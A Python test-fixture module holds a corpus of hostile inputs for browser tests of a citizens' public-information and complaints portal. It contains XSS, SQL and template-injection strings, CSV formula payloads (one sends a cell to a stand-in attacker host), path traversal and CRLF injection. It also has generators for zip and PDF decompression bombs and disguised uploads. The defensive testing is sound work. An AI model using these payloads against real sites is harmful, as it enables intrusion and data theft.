"""The hostile-input corpus (issue 16): what an attacker or an unlucky citizen types, pastes or
uploads. Every script payload sets `window.__pwned` when it runs; the browser tests assert it
never does, that no page answers 500, and that the input survives (re-shown on error, or
stored and shown intact).

tests/browser/test_hostile_corpus.py posts TEXTS and HUGE to every field of the citizens' forms
and opens the pages that show stored ones; FILES go to the upload fields.
tests/browser/test_hostile_officer_forms.py does the same for the staff's forms (officers,
superior, DIP and DIK, public-information pages and report, social channels and replies).
The 100,000-character inputs of the actions and searches are tests/cases/test_validators.py's
and tests/search's."""

from __future__ import annotations

import io
import zipfile

PWN = "window.__pwned=1"

# name -> text. No NUL or other control character (a browser cannot type them; the forms
# strip them: tests/cases/test_validators.py) and no leading or trailing blank (forms strip).
TEXTS: dict[str, str] = {
    "script tag": f"<script>{PWN}</script>",
    "attribute breakout": f'"><img src=x onerror="{PWN}">',
    "single-quote attribute": f"' autofocus onfocus='{PWN}' x='",
    "javascript url": f"javascript:{PWN}",
    "data url": f"data:text/html,<script>{PWN}</script>",
    "markdown link": f"[klik di sini](javascript:{PWN})",
    "markdown image": f'![x](x" onerror="{PWN})',
    "markdown autolink": f"<javascript:{PWN}>",
    "svg onload": f'<svg onload="{PWN}"><circle r="1"/></svg>',
    "svg script": f"<svg><script>{PWN}</script></svg>",
    "template injection": "{{ 7*7 }} {% if true %}x{% endif %} ${7*7} #{7*7}",
    "style breakout": f"</style><script>{PWN}</script>",
    "textarea breakout": f"</textarea><script>{PWN}</script>",
    "title breakout": f"</title><script>{PWN}</script>",
    "rtl override": "laporan\u202egpj.exe anggaran",
    "zero width": "ang\u200bgar\u200can\u200d\u2060 \ufeffdesa",
    "emoji": "Permohonan 👩🏽‍⚕️🇮🇩 data 🧾✅",
    "combining marks": "Z̴̡̛a̷l̶g̸o̵ ̷t̴e̶x̷t",
    "sql": "'; DROP TABLE layananpublik_request; -- \" OR 1=1 --",
    "lucene": 'title:(a OR b)^9 AND -notes:[* TO *] ~2 "x\\" ? * \\',
    "like wildcards": "100%_ \\% \\_",
    "csv formula": '=HYPERLINK("http://penyerang.example/?x="&A1,"klik")',
    "csv formula plus": "+cmd|' /C calc'!A0",
    "csv formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path traversal": "../../../../etc/passwd",
    "windows traversal": "..\\..\\..\\windows\\win.ini",
    "crlf header": "nama\r\nBcc: korban@example.com",
    "overlong": "panjang-" * 700,  # 5,600 characters: over every field's cap
}

# 100,000 characters that made the old patterns slow: an email-like text whose domain is dots
# (the email pattern, quadratic) and runs of spaces and dashes (the search strippers, cubic). The
# browser tests post it to every field of every form and give the answer GENEROUS_SECONDS.
HUGE = "a@" + "a. -" * 25_000 + "@"
GENEROUS_SECONDS = 20  # a refusal takes milliseconds on the server; the old patterns took minutes

# The fields of a form a hostile text goes to: every text field the citizen types in.
REQUEST_FIELDS = (
    "name",
    "nik",
    "address",
    "phone",
    "email",
    "occupation",
    "information_requested",
    "purpose",
)
COMPLAINT_FIELDS = ("service", "description", "remedy", "loss", "name", "address", "email", "phone")
BERKALA_FIELDS = ("reason", "filer_name", "email", "phone")
LOOKUP_FIELDS = ("tracking",)


def _zip_bomb() -> bytes:
    """A small zip that expands to 50 MB (named as an identity photo)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("ktp.png", b"\x00" * 50_000_000)
    return buffer.getvalue()


def _pdf_bomb() -> bytes:
    """A PDF whose stream claims to inflate to gigabytes (a header, a deflate bomb, no pages)."""
    import zlib

    inflated = zlib.compress(b"\x00" * 20_000_000, 9)
    return (b"%PDF-1.4\n1 0 obj << /Length " + str(len(inflated)).encode() + b" /Filter /FlateDecode >> stream\n"
            + inflated + b"\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")  # fmt: skip


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 64

# name -> (file name, declared type, content, accepted). Every one goes to the request form's
# identity document; `accepted` says whether a portal that checks contents takes it.
FILES: dict[str, tuple[str, str, bytes, bool]] = {
    "html as png": ("ktp.png", "image/png", f"<html><script>{PWN}</script></html>".encode(), False),
    "svg with script": ("ktp.svg", "image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"/>'.encode(),
                        False),
    "exe as pdf": ("ktp.pdf", "application/pdf", b"MZ\x90\x00" + b"\x00" * 200, False),
    "zip bomb as png": ("ktp.png", "image/png", _zip_bomb(), False),
    "pdf bomb": ("ktp.pdf", "application/pdf", _pdf_bomb(), True),
    "oversized png": ("ktp.png", "image/png", PNG + b"\x00" * (6 * 1024 * 1024), False),
    "path traversal name": ("../../../../tmp/ktp.png", "image/png", PNG, True),
    "script name": (f"<img src=x onerror={PWN}>.png", "image/png", PNG, True),
    "rtl name": ("ktp\u202egnp.exe", "image/png", PNG, True),
}  # fmt: skip
